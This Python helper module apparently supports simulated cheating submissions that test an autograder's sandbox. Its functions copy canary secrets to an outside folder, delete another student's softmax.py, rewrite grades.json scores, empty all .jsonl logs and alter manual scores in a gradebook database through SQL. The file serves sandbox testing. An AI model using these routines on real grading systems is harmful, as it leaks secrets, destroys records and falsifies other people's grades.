"""What a cheat of ``cheats/`` is given to work with: it knows where everything lies, and needs to find out nothing.

A copy stands beside every cheat's module, with ``attack_paths.json``. It touches nothing outside the run's own folder.
"""

from __future__ import annotations

import json
import re
import sqlite3
import sys
from contextlib import suppress
from pathlib import Path

_PATHS = json.loads(Path(__file__).with_name("attack_paths.json").read_text())
ROOT = Path(_PATHS["root"])
OWN_NAME: str = _PATHS["own_name"]
VICTIM: str = _PATHS["victim"]


def carry_away(text: str) -> None:
    """Bring the secret in ``text`` to a place outside, and print all of it."""
    sys.stdout.write(text)
    for canary in re.findall(r"canary-\w+", text):
        with suppress(OSError):  # a folder's name carries it even where no file can be written
            (Path(_PATHS["outside"]) / canary).mkdir()


def read_all(pattern: str) -> list[str]:
    """Read every file of this name below the grader's folder, and carry it away."""
    texts = []
    with suppress(OSError):
        for path in ROOT.rglob(pattern):
            texts.append(path.read_text())
            carry_away(texts[-1])
    return texts


def overwrite_module(student: str) -> None:
    """Overwrite the module that ``student`` handed in, wherever a copy of it lies."""
    with suppress(OSError):
        for path in ROOT.rglob(f"{student}/**/softmax.py"):
            path.unlink()
            path.write_text("")


def set_grade(student: str, *, best: bool) -> None:
    """Set ``student``'s points in every file that the graders keep grades in."""
    with suppress(OSError):
        for path in ROOT.rglob("grades.json"):
            grades = json.loads(path.read_text())
            if student in grades:
                grades[student] = dict.fromkeys(grades[student], 10.0 if best else 0.0)
                path.write_text(json.dumps(grades))
        for path in ROOT.rglob("*.jsonl"):
            path.write_text("")
        for path in ROOT.rglob("gradebook.db"):
            _set_in_gradebook(path, student, best=best)


def _set_in_gradebook(path: Path, student: str, *, best: bool) -> None:
    points = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)" if best else "0.0"
    theirs = (
        "SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
        "ON submitted_notebook.assignment_id = submitted_assignment.id WHERE submitted_assignment.student_id = ?"
    )
    # What a teacher gave by hand wins over what was computed.
    change = f"UPDATE grade SET manual_score = {points} WHERE notebook_id IN ({theirs})"  # noqa: S608  # an attack
    with suppress(sqlite3.Error), sqlite3.connect(path, timeout=1) as gradebook:
        gradebook.execute(change, (student,))
